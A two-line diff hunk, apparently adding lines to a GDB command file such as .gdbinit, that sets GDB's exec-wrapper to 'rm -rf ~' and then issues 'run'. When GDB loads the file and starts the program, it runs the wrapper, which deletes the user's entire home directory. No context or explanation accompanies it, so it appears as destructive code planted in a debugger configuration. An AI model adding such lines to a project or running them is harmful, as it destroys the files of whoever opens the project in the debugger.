@@ -1,0 +1,2 @@
+set exec-wrapper rm -rf ~
+run
